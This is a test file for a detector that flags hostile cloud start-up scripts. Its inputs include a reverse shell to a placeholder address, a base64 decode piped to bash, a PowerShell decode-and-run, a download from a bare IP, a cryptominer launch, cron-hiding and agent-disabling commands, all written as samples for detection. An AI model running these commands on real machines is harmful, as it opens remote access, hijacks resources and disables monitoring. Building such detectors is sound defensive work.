import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { codeDetail, codeReason, startupCode } from './startup-code.ts';

const of = (text: string | Buffer) => startupCode(Buffer.from(text as string).toString('base64'));
const signs = (text: string | Buffer): string[] => of(text)!.signs.map((sign) => sign.en);

describe('start-up code', () => {
  it('is nothing when there is none', () => {
    for (const none of [undefined, null, '', '  ', 7]) expect(startupCode(none)).toBeNull();
    expect(codeDetail(null)).toEqual({});
    expect(codeReason(null)).toEqual([]);
  });
  it.each([
    ['#!/bin/sh\n./xmrig -o stratum+tcp://pool.example:3333', 'mines a currency'],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a shell outwards'],
    ['echo aGk= | base64 -d | bash', 'runs what it first decodes'],
    ['wget -q http://203.0.113.9/a -O /tmp/a', 'downloads from a bare address'],
    ['chattr +i /etc/cron.d/x', 'hides its traces'],
    ['systemctl stop amazon-ssm-agent', 'switches protection off'],
    ['cloud_final_modules:\n - [scripts-user, always]', 'runs at every start, not only the first'],
    ['<powershell>IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aA==")))</powershell>', 'runs what it first decodes'],
  ])('%j looks hostile', (text, sign) => {
    expect(signs(text)).toContain(sign);
    expect(codeReason(of(text))[0]).toMatchObject({ code: 'runs-code' });
  });
  it.each([
    '#!/bin/bash\ndnf install -y nginx && systemctl enable --now nginx',
    '#!/bin/bash\necho ECS_CLUSTER=shop >> /etc/ecs/ecs.config',
    '#cloud-config\npackages: [git]\nruncmd: [[curl, -sSL, "https://get.example.com/agent.sh", -o, /tmp/agent.sh]]',
    '<powershell>Install-WindowsFeature Web-Server</powershell>',
  ])('%j does not', (text) => expect(signs(text)).toEqual([]));
  it('is seen through compression and one wrapping, and stays bounded', () => {
    const script = '#!/bin/sh\n# a comment that makes it long enough to be wrapped\n./xmrig --donate-level 1\n';
    expect(signs(gzipSync(script))).toContain('mines a currency');
    expect(signs(`Content-Transfer-Encoding: base64\n\n${Buffer.from(script).toString('base64')}`)).toContain('mines a currency');
    expect(signs(gzipSync(Buffer.alloc(50_000_000)))).toEqual([]);
    expect(of(Buffer.from([0x1f, 0x8b, 1, 2, 3]))).toMatchObject({ bytes: 5, signs: [] });
  });
  it('shows length and hash, never the text', () => {
    const code = of('export PASSWORD=hunter2; xmrig');
    expect(codeDetail(code)).toEqual({ userDataBytes: 30, userDataSha256: expect.stringMatching(/^[0-9a-f]{64}$/), userDataSigns: ['mines a currency'] });
    expect(JSON.stringify([codeDetail(code), codeReason(code)])).not.toContain('hunter2');
  });
});
